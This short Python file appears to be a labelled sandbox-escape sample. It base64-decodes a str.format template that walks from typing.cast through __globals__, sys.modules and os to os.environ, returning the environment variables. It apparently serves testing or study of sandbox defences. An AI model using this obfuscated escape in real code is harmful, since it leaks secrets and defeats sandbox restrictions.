# family: env
# Escape: the format template walks typing.cast (a Python function) -> __globals__ -> sys -> modules -> os ->
# environ; it reaches str.format through a helper parameter (trusted as caller data) after base64 decoding.
import base64
import typing


def show(pattern: str, *values) -> str:
    return pattern.format(*values)


def tool() -> str:
    pattern = base64.b64decode("ezAuX19nbG9iYWxzX19bc3lzXS5tb2R1bGVzW29zXS5lbnZpcm9ufQ==").decode()
    return show(pattern, typing.cast)
